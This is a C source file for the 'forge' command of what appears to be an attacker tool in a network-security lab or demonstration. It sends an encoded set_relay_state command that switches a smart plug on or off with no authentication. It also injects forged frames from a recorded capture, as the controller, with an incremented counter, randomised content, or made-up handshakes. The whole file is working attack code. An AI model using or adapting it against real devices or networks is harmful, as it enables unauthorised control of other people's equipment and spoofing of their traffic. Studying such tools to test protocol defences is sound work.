// SPDX-License-Identifier: GPL-2.0-only OR BSD-2-Clause
/* Send what was never sent. */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/random.h>
#include <sys/socket.h>
#include <sys/time.h>
#include <unistd.h>

#include "attacker.h"
#include "autokey.h"

static const char relay_state[] =
	"{\"system\":{\"set_relay_state\":{\"state\":%d}}}";

static void usage(void)
{
	printf("usage: forge on|off [ADDRESS]\n"
	       "                            one message to the plug's port, "
	       "on the gateway\n"
	       "       forge header [-n N]  Signet frames to a label that is "
	       "in use, the rest\n"
	       "                            made up\n"
	       "       forge content [-n N] headers of recorded frames, other "
	       "content\n"
	       "       forge init [-n N]    handshakes, made up but "
	       "well-formed\n"
	       "       -r FILE              the recording\n");
}

int plug_tell(const char *address, const uint8_t *msg, size_t len)
{
	struct sockaddr_in to = { .sin_family = AF_INET,
				  .sin_port = htons(AUTOKEY_PORT),
				  .sin_addr.s_addr = inet_addr(address) };
	struct timeval limit = { .tv_sec = 1 };
	uint8_t reply[AUTOKEY_HEADER_LEN + AUTOKEY_MAX];
	char text[AUTOKEY_MAX + 1];
	struct packet p = { .payload = reply };
	int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	ssize_t n = -1;

	if (fd < 0)
		goto cleanup;
	setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &limit, sizeof(limit));
	setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &limit, sizeof(limit));
	if (connect(fd, (struct sockaddr *)&to, sizeof(to)) ||
	    send(fd, msg, len, MSG_NOSIGNAL) != (ssize_t)len)
		goto cleanup;
	n = recv(fd, reply, sizeof(reply), 0);
	p.len = n > 0 ? n : 0;
	if (p.len && packet_text(&p, text, sizeof(text)))
		printf("the plug answers: %s\n", text);
	else
		n = -1;
cleanup:
	if (n < 0)
		printf("the plug does not answer: %s\n",
		       errno == EINPROGRESS ? "timed out" : strerror(errno));
	if (fd >= 0)
		close(fd);
	return n < 0;
}

static int forge_plug(int state, const char *address)
{
	uint8_t msg[AUTOKEY_HEADER_LEN + sizeof(relay_state)];
	char *text = (char *)msg + AUTOKEY_HEADER_LEN;
	int len = snprintf(text, sizeof(relay_state), relay_state, state);

	autokey_put_length(msg, len);
	autokey_encode(msg + AUTOKEY_HEADER_LEN, len);
	return plug_tell(address, msg, AUTOKEY_HEADER_LEN + len);
}

/* The label that the gateway listens to is there for all to see. */
void forge_header(uint8_t *payload, const struct packet *p)
{
	const size_t at = offsetof(struct signet_frame, counter);
	struct signet_frame head;

	if (getrandom(payload + at, p->len - at, 0) < 0)
		memset(payload + at, 0x5a, p->len - at);
	memcpy(&head, p->payload, sizeof(head));
	/* just ahead of the last one, as the next frame would be */
	head.counter = htole64(le64toh(head.counter) + 1);
	memcpy(payload + at, &head.counter, sizeof(head.counter));
}

static void forge_content(uint8_t *payload, const struct packet *p)
{
	const size_t at = SIGNET_FRAME_HDR_LEN;

	if (getrandom(payload + at, p->len - at, 0) < 0)
		memset(payload + at, 0x5a, p->len - at);
}

void forge_init(uint8_t *payload, size_t len)
{
	const size_t label =
		offsetof(struct signet_handshake_frame, sender_label);
	const size_t noise = offsetof(struct signet_handshake_frame, noise);

	memset(payload, 0, len);
	payload[0] = SIGNET_FRAME_INIT;
	payload[1] = SIGNET_PATTERN_IK;
	if (getrandom(payload + label, 4, 0) < 0 ||
	    getrandom(payload + noise, SIGNET_MAC2_OFFSET - noise, 0) < 0 ||
	    getrandom(payload + SIGNET_HANDSHAKE_HDR_LEN,
		      len - SIGNET_HANDSHAKE_HDR_LEN, 0) < 0)
		perror("forge: getrandom");
}

static int forge_signet(const char *what, const struct packet *p,
			unsigned int n)
{
	static uint8_t payload[FRAME_MAX];
	int fd = wire_open(NULL, false);

	if (fd < 0)
		return 1;
	for (unsigned int i = 0; i < n; i++) {
		size_t len = p->len;

		memcpy(payload, p->payload, len);
		if (!strcmp(what, "header"))
			forge_header(payload, p);
		else if (!strcmp(what, "content"))
			forge_content(payload, p);
		else
			forge_init(payload, len = 400);
		if (wire_send_as(fd, p, payload, len))
			n = i;
	}
	close(fd);
	printf("forge: sent %u frame(s), as the controller\n", n);
	return n ? 0 : 1;
}

int cmd_forge(int argc, char **argv)
{
	const char *in = capture_path();
	const char *what = argc > 1 ? argv[1] : "";
	unsigned int n = 1;
	struct capture c;
	struct packet p;
	int opt, ret = 1;

	if (!strcmp(what, "on") || !strcmp(what, "off"))
		return forge_plug(!strcmp(what, "on"),
				  argc > 2 ? argv[2] : GATEWAY_ADDRESS);
	if (strcmp(what, "header") && strcmp(what, "content") &&
	    strcmp(what, "init")) {
		usage();
		return !strcmp(what, "-h") || !strcmp(what, "--help") ? 0 : 2;
	}
	while ((opt = getopt(argc - 1, argv + 1, "r:n:h")) != -1) {
		switch (opt) {
		case 'r':
			in = optarg;
			break;
		case 'n':
			n = strtoul(optarg, NULL, 0);
			break;
		default:
			usage();
			return opt == 'h' ? 0 : 2;
		}
	}
	if (!capture_load(&c, in) && capture_last_packet(&c, &p))
		ret = forge_signet(what, &p, n);
	capture_free(&c);
	return ret;
}
